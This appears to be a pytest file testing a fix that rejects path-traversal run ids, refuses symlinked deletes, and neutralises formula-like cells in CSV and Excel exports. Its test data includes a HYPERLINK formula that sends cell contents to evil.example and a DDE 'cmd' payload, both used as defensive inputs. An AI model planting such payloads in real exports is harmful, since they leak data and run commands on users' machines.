"""Run ids are checked in full at creation and at deletion, and deleting a run removes that run's
folder only; exports write formula-like text as text (issue 16)."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from personagraph.accounts.identity import Caller, NotFoundError
from personagraph.services.twins.answering import AnswerRecord
from personagraph.services.twins.executor import BatchOptions
from personagraph.services.twins.exports import export_all, spreadsheet_text
from personagraph.services.twins.store import create_run_store, delete_run, open_run, run_folder, runs_dir
from personagraph.services.twins.surveys import create_survey_run
from personagraph.serving.safe_paths import PathOutsideError, UnsafeIdError
from personagraph.serving.settings import get_settings
from personagraph.twins.respondents import Respondent
from personagraph.twins.surveys import survey_from_data

MINA = Caller("mina")
BAD_IDS = ["..", ".", "a/..", "../x", "/", "/etc", "/tmp/x", "runs/..", "a\n", "..\\x"]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A PERSONAGRAPH_HOME with things a bad delete would destroy: checkpoints, memories, a run."""
    root = tmp_path / "home"
    monkeypatch.setenv("PERSONAGRAPH_HOME", str(root))
    get_settings.cache_clear()
    (root / "state").mkdir(parents=True)
    (root / "state" / "checkpoints.sqlite").write_text("keep")
    (root / "memories.sqlite").write_text("keep")
    yield root
    get_settings.cache_clear()


def _survey_run(run_id: str | None = None) -> str:
    survey = survey_from_data({"id": "s", "questions": [{"id": "q1", "type": "open", "text": "Why?"}]})
    people = [Respondent(id="p1", profile="A person.", source="test")]
    return create_survey_run(MINA, survey, people, BatchOptions(), run_id=run_id).run_id


def _untouched(home: Path) -> None:
    assert (home / "state" / "checkpoints.sqlite").read_text() == "keep"
    assert (home / "memories.sqlite").read_text() == "keep"


@pytest.mark.parametrize("run_id", BAD_IDS)
def test_bad_run_ids_are_refused_at_creation_and_at_delete(home: Path, run_id: str) -> None:
    kept = _survey_run("kept")
    with pytest.raises(UnsafeIdError, match=r"^run_id: "):
        _survey_run(run_id)
    with pytest.raises(UnsafeIdError, match=r"^run_id: "):
        delete_run(MINA, run_id)
    with pytest.raises(UnsafeIdError):
        run_folder(run_id)
    _untouched(home)
    assert (runs_dir() / kept / "results.sqlite").is_file()


def test_an_empty_run_id_gets_a_fresh_id_and_cannot_be_deleted(home: Path) -> None:
    fresh = _survey_run("")
    assert fresh.startswith("survey-") and (runs_dir() / fresh).is_dir()
    with pytest.raises(UnsafeIdError):
        delete_run(MINA, "")
    _untouched(home)


def test_deleting_a_run_removes_its_folder_only(home: Path) -> None:
    first, second = _survey_run("first"), _survey_run("second")
    delete_run(MINA, first)
    assert not (runs_dir() / first).exists()
    assert (runs_dir() / second / "results.sqlite").is_file()
    assert runs_dir().is_dir()
    _untouched(home)
    with pytest.raises(NotFoundError):
        delete_run(MINA, first)


def test_symlinked_run_folders_are_never_deleted_through(home: Path) -> None:
    real = _survey_run("real")
    (runs_dir() / "alias").symlink_to(runs_dir() / real)  # points at another run
    with pytest.raises(PathOutsideError, match=r"^run_id: 'alias'"):
        delete_run(MINA, "alias")
    assert (runs_dir() / real / "results.sqlite").is_file()
    # A link out of runs/ (to the home itself, holding a run-looking file) is refused as well.
    with create_run_store(MINA, "survey", "bait", survey_id="s", options={}, selection=None, source="t"):
        pass
    (home / "results.sqlite").write_bytes((runs_dir() / "bait" / "results.sqlite").read_bytes())
    (runs_dir() / "out").symlink_to(home)
    with pytest.raises(PathOutsideError):
        delete_run(MINA, "out")
    _untouched(home)


def test_the_runs_folder_itself_is_never_a_run_folder(home: Path) -> None:
    runs_dir().mkdir(parents=True, exist_ok=True)
    for name in ("", ".", ".."):
        with pytest.raises((UnsafeIdError, PathOutsideError)):
            run_folder(name)


# --- exports --------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("plain", "plain"), ("a=b", "a=b"), (-3, -3), (-2.5, -2.5), (None, None), (True, True)],
)  # fmt: skip
def test_spreadsheet_text_neutralises_only_formula_like_text(value: object, expected: object) -> None:
    assert spreadsheet_text(value) == expected


def test_exports_write_formula_like_cells_as_text(home: Path) -> None:
    survey = survey_from_data({
        "id": "s", "title": "=cmd|'/c calc'!A1",
        "questions": [{"id": "q1", "type": "open", "text": HOSTILE[0]},
                      {"id": "q2", "type": "numeric", "text": "How many?", "integer": True, "min": -10, "max": 10}],
    })  # fmt: skip
    people = [Respondent(id="@evil", profile="A person.", source="test")]
    run_id = create_survey_run(MINA, survey, people, BatchOptions(), run_id="hostile").run_id
    with open_run(MINA, run_id) as store:
        store.write_answers([
            AnswerRecord(person_id="@evil", question_id="q1", status="ok", value=HOSTILE[0], reason=HOSTILE[1]),
            AnswerRecord(person_id="@evil", question_id="q2", status="ok", value=-3, reason=HOSTILE[3]),
        ])  # fmt: skip
    files = export_all(MINA, run_id)

    book = openpyxl.load_workbook(files["excel"])
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula anywhere"
    texts = [c.value for c in cells if c.data_type == "s"]
    assert "'" + HOSTILE[0] in texts and "'@evil" in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -3 in numbers  # a negative number stays a number

    with open(files["csv"], newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    values = [v for row in rows for v in row]
    assert "'" + HOSTILE[0] in values and "'" + HOSTILE[1] in values and "'@evil" in values
    assert not [v for v in values if v[:1] in ("=", "+", "@", "\t", "\r") or (v[:1] == "-" and v != "-3")]
    assert "-3" in values
